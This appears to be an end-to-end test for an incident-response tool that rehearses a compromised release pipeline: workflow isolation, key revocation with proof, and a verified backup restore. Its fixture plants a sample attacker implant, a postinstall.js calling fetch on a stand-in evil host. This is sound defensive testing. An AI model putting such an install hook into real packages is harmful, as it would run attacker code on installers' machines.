import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { itemOf } from '../../src/engine/state.ts';
import { toJson } from '../../src/report/json.ts';
import { toMarkdown } from '../../src/report/markdown.ts';
import { reportModel } from '../../src/report/report.ts';
import { loadCatalogues } from '../../src/run/catalogues.ts';
import { realClock } from '../../src/run/clock.ts';
import { loadPlaybook } from '../../src/run/content.ts';
import { openIncident } from '../../src/run/incident.ts';
import { createLive } from '../../src/run/live.ts';
import { awsCli, RESPONDER } from '../content/actions/aws-cli.ts';
import { AwsService } from '../content/actions/aws-service.ts';
import { emulatedGitHub } from '../content/actions/emulated.ts';
import { flipByte, largestIn } from '../helpers/backups.ts';
import { program } from '../helpers/cli.ts';
import { folder } from '../run/live/given.ts';
import { steady } from './steady.ts';
import { Team } from './team.ts';

const canaries = {
  GITHUB_TOKEN: 'gh-canary-0f6b1c8a2e',
  RESTIC_PASSWORD: 'restic-canary-77d1e0',
  NPM_TOKEN: 'npm-canary-51aa09bd',
  OLD_DEPLOYER: 'aws-canary/deployer+b61f',
  OLD_PUBLISHER: 'aws-canary/publisher+08e2',
};
const DEPLOYER = 'AKIADEPLOYERDEPLOY77';
const PUBLISHER = 'AKIAPUBLISHERPUBLI42';

/** A service's data, a restic repository with three backups of it, of which the last holds what the attacker left, and a copy with a bad disk. */
function backups(dir: string) {
  const data = join(dir, 'srv', 'artefacts');
  const repository = join(dir, 'backup');
  const env = {
    PATH: process.env.PATH,
    RESTIC_PASSWORD: canaries.RESTIC_PASSWORD,
    RESTIC_CACHE_DIR: join(dir, 'cache'),
    RESTIC_REPOSITORY: repository,
  };
  const restic = (...args: string[]) => execFileSync('restic', args, { env, stdio: ['ignore', 'pipe', 'pipe'] });
  mkdirSync(data, { recursive: true });
  writeFileSync(join(data, 'index.json'), '{"latest":"4.2.0"}\n');
  writeFileSync(join(data, 'sdk-4.2.0.tgz'), Buffer.alloc(200_000, 'good'));
  restic('init');
  restic('backup', '--host', 'backup-1', '--time', '2026-02-27 06:00:00', data);
  writeFileSync(join(data, 'postinstall.js'), 'fetch("https://evil.example")\n');
  restic('backup', '--host', 'backup-1', '--time', '2026-03-02 05:12:00', data);
  const mirror = join(dir, 'mirror');
  execFileSync('cp', ['-a', repository, mirror]);
  flipByte(largestIn(join(mirror, 'data')));
  return { data, repository, mirror, env };
}

/** Every file below a folder, but for sockets. */
function filesIn(path: string): string[] {
  if (statSync(path).isDirectory()) return readdirSync(path).flatMap((name) => filesIn(join(path, name)));
  return statSync(path).isFile() ? [path] : [];
}

describe('a compromised release pipeline, live', () => {
  it('from the alert to the report', { timeout: 300_000 }, async () => {
    const dir = folder();
    const store = join(dir, 'store');
    const github = await emulatedGitHub(canaries.GITHUB_TOKEN);
    const aws = await AwsService.start();
    aws.reset({
      [DEPLOYER]: { user: 'deployer', secret: canaries.OLD_DEPLOYER, status: 'Active' },
      [PUBLISHER]: { user: 'publisher', secret: canaries.OLD_PUBLISHER, status: 'Active' },
      [RESPONDER.key]: { user: 'responder', secret: RESPONDER.secret, status: 'Active' },
    });
    const cli = awsCli(aws.url, { iam: '/', sts: '/' });
    const { data, repository, mirror, env } = backups(dir);
    onTestFinished(async () => {
      cli.remove();
      await Promise.all([github.close(), aws.close()]);
    });

    const content = loadPlaybook('compromised-pipeline');
    const { catalogues, documents } = loadCatalogues([]);
    const environment = { ...cli.environment, ...canaries, RESTIC_CACHE_DIR: env.RESTIC_CACHE_DIR };
    const session = await openIncident(store, {
      content,
      catalogues,
      documents: documents.map(({ document }) => document),
      live: createLive({ sources: {}, environment }, content.playbook, catalogues),
      roles: { lead: 'Mara', operator: 'Jon', communicator: 'Priya' },
      inputs: { repository: 'acme/storefront' },
      anchors: {},
      title: 'storefront-sdk 4.2.1: nobody released it',
      endpoints: { github: github.url },
      selfApproval: 'refused',
      rehearsal: false,
      clock: realClock,
      typedBy: 'jon@bridge',
      by: { person: 'Jon', role: 'operator' },
    });
    onTestFinished(() => session.leave());
    const team = new Team(session);
    const seenBy = async (path: string) =>
      (
        await fetch(`${github.url}/repos/acme/storefront${path}`, {
          headers: { authorization: `Bearer ${canaries.GITHUB_TOKEN}` },
        })
      ).json();

    team.tells(
      'Triage',
      'Mara leads, Jon is at the keys, Priya tells those who must know. Each decision has its reason.',
    );
    team.does('Mara', { type: 'finish', step: 'acknowledge' });
    team.does('Mara', { type: 'finish', step: 'confirm', choice: 'confirmed', rationale: 'No tag fits the release.' });
    team.does('Mara', {
      type: 'finish',
      step: 'personal-data',
      choice: 'no',
      rationale: 'It builds from public sources alone.',
    });
    team.flush();

    team.tells(
      'Stop the bleed',
      'The list comes from GitHub itself. What it finds is in the register only when a person has confirmed it. What would change something is approved by the lead, with the exact request on the screen, and its success is seen by asking again.',
    );
    const stages = { step: 'survey-stages' };
    team.does('Jon', { type: 'take', ...stages });
    team.plans('Jon', stages, { action: 'github/list-workflows' });
    await team.runs('Jon', stages);
    const [workflow = ''] = team.confirms('Jon', stages);
    team.does('Jon', { type: 'finish', ...stages });
    const isolate = { step: 'isolate-stages', item: workflow };
    team.isRefused('Jon', { type: 'run-action', ...isolate, hash: 'whatever' });
    team.approves(isolate);
    expect((await team.runs('Jon', isolate)).status).toBe('done');
    expect(await seenBy('/actions/workflows/release.yml')).toMatchObject({ state: 'disabled_manually' });
    const log = session.keep({ text: '2026-03-01T22:40:11Z workflow_dispatch by acme-ci, nobody started it\n' });
    if ('problem' in log) throw new Error(log.problem);
    team.does('Jon', { type: 'finish', step: 'preserve-logs', item: workflow, evidence: [log] });
    team.does('Mara', {
      type: 'revise-anchor',
      anchor: 'intruded',
      value: '2026-03-01T22:40:11Z',
      source: 'the run logs',
      reason: 'A run that nobody started.',
    });
    team.flush();

    team.tells(
      'Off the shelf',
      'There is an action for it, and Jon does it in the web page all the same: that is said in words, and the playbook’s owner reads it afterwards.',
    );
    team.does('Jon', { type: 'take', step: 'survey-artifacts' });
    const survey = { step: 'survey-artifacts' };
    const name = 'storefront-sdk 4.2.1';
    team.does('Jon', { type: 'add-item', kind: 'artifact', name, itemType: 'npm-package', foundBy: survey });
    team.does('Jon', { type: 'finish', ...survey });
    const quarantine = { step: 'quarantine-artifacts', item: team.item(name) };
    team.approves(quarantine);
    team.isRefused('Jon', { type: 'finish', ...quarantine });
    team.does('Jon', {
      type: 'do-otherwise',
      ...quarantine,
      how: 'Unpublished by the registry’s support, on the phone.',
    });
    team.flush();

    team.tells(
      'Keys dead, and proven',
      'Both keys are listed by the AWS CLI, deleted after approval, and then used once: only the refusal that means dead is proof. The old secrets are given by reference, and stand in no file.',
    );
    const credentials = { step: 'list-credentials' };
    team.does('Jon', { type: 'take', ...credentials });
    for (const user of ['deployer', 'publisher']) {
      team.plans('Jon', credentials, { action: 'aws/list-access-keys', with: { user } });
      await team.runs('Jon', credentials);
      team.confirms('Jon', credentials);
    }
    team.does('Jon', { type: 'finish', ...credentials });
    team.does('Mara', {
      type: 'finish',
      step: 'rotation',
      choice: 'at-once',
      rationale: 'Nothing is built tonight anyway.',
    });
    for (const [key, old] of [
      [DEPLOYER, 'OLD_DEPLOYER'],
      [PUBLISHER, 'OLD_PUBLISHER'],
    ] as const) {
      const item = team.item(key);
      team.approves({ step: 'revoke-credentials', item });
      expect((await team.runs('Jon', { step: 'revoke-credentials', item })).status).toBe('done');
      const prove = { step: 'prove-credentials-dead', item };
      team.plans('Jon', prove, { subjects: { old: `env:${old}` } });
      expect(await team.runs('Jon', prove)).toMatchObject({ status: 'done', acted: [{ outcome: { proof: 'dead' } }] });
      expect(Object.keys(itemOf(session.state, item)?.reached ?? {})).toEqual(['revoked', 'proven-dead']);
    }
    expect([...aws.keys.keys()]).toEqual([RESPONDER.key]);
    team.flush();

    team.tells('Clean', 'What no action of the catalogue does is done by hand, and said how.');
    team.does('Mara', { type: 'finish', step: 'all-dead' });
    team.does('Jon', { type: 'finish', step: 'remove-implants', item: workflow });
    for (const key of [DEPLOYER, PUBLISHER])
      team.does('Jon', { type: 'finish', step: 'replace-credentials', item: team.item(key) });
    team.flush();

    team.tells(
      'A verified restore',
      'The backup tool itself says what it has. The newest backup was taken after the intrusion, and is refused. The mirror has a bad disk, and reading it back shows it. The older one is read back, restored into a new folder, compared file by file, and only then swapped in.',
    );
    const backup = { step: 'survey-backups' };
    team.does('Jon', { type: 'take', ...backup });
    for (const where of [repository, mirror]) {
      team.plans('Jon', backup, { action: 'restic/list-snapshots', with: { repository: where } });
      await team.runs('Jon', backup);
      const proposed = team.instance(backup).proposed ?? [];
      for (const { kind, itemType, name, fields } of proposed) {
        if (fields.repository !== where) continue;
        const isMirror = where === mirror;
        // Of the mirror, the older one is enough.
        if (isMirror && String(fields.taken).startsWith('2026-03-02')) continue;
        const called = isMirror ? `${name} on the mirror` : name;
        team.does('Jon', { type: 'add-item', kind, itemType, name: called, fields, foundBy: backup });
      }
    }
    team.does('Jon', { type: 'finish', ...backup });
    const all = Object.values(session.state.register.backup ?? {});
    const newest = all.find(({ fields }) => String(fields.taken).startsWith('2026-03-02'));
    const tampered = all.find(({ name }) => name.endsWith('on the mirror'));
    const good = all.find((item) => item !== newest && item !== tampered);
    if (!newest || !tampered || !good) throw new Error('three backups are expected');
    const choose = (item: string, rationale: string) =>
      team.does('Mara', { type: 'finish', step: 'choose-backup', choice: item, rationale });
    const takeBack = (reason: string) => team.does('Mara', { type: 'retract', step: 'choose-backup', reason });

    choose(newest.id, 'The least is lost by it.');
    const { glass } = team.isRefused('Jon', {
      type: 'run-action',
      step: 'verify-backup',
      item: newest.id,
      hash: 'whatever',
    });
    expect(glass).toMatchObject({ what: 'require' });
    takeBack('It was taken after they came in.');
    choose(tampered.id, 'It is at hand.');
    const failed = await team.runs('Jon', { step: 'verify-backup', item: tampered.id });
    expect(failed).toMatchObject({ status: 'failed', acted: [{}, { call: 'check', outcome: { verdict: 'failed' } }] });
    takeBack('What it gives back is not what was put in.');
    choose(good.id, 'From before they came in; three days are lost.');
    const verify = { step: 'verify-backup', item: good.id };
    expect((await team.runs('Jon', verify)).status).toBe('done');
    const restore = { step: 'restore-backup', item: good.id };
    team.plans('Jon', restore, {
      action: 'restic/restore',
      with: { into: join(dir, 'srv', 'restored'), keep: 'intruded' },
    });
    team.approves(restore);
    expect(await team.runs('Jon', restore)).toMatchObject({ status: 'done', outputs: { digest: good.fields.digest } });
    expect(readdirSync(data).sort()).toEqual(['index.json', 'sdk-4.2.0.tgz']);
    expect(readdirSync(`${data}.before-intruded`)).toContain('postinstall.js');
    const resume = { step: 'resume-stages', item: workflow };
    team.approves(resume);
    expect((await team.runs('Jon', resume)).status).toBe('done');
    expect(await seenBy('/actions/workflows/release.yml')).toMatchObject({ state: 'active' });
    team.flush();

    team.tells(
      'Tell, and close',
      'What went out is in the journal with its words; the report is made from the journal alone.',
    );
    team.does('Priya', { type: 'finish', step: 'advise-consumers' });
    team.does('Priya', { type: 'finish', step: 'brief-executives' });
    team.does('Mara', {
      type: 'finish',
      step: 'watch',
      choice: 'no',
      rationale: 'The keys are dead and the door is shut.',
    });
    team.does('Mara', { type: 'finish', step: 'hand-back' });
    expect(session.state).toMatchObject({ stage: 'hot-wash', outcome: 'closed' });
    team.does('Mara', { type: 'close' });
    team.flush();

    const report = reportModel(session.entries, session.state.definition);
    const page = toMarkdown(report);
    expect(page).toContain('LIVE');
    session.leave();
    const told = execFileSync(process.execPath, [program, 'verify', session.run, '--store', store], {
      encoding: 'utf8',
    });
    expect(told).toContain(session.head);
    const everything = [
      page,
      toJson(report),
      team.story,
      ...filesIn(store).map((file) => readFileSync(file, 'latin1')),
    ];
    for (const canary of Object.values(canaries)) for (const text of everything) expect(text).not.toContain(canary);

    await expect(steady(team.story, { dir, github: github.url, run: session.run })).toMatchFileSnapshot(
      '../../docs/walkthrough.md',
    );
  });
});
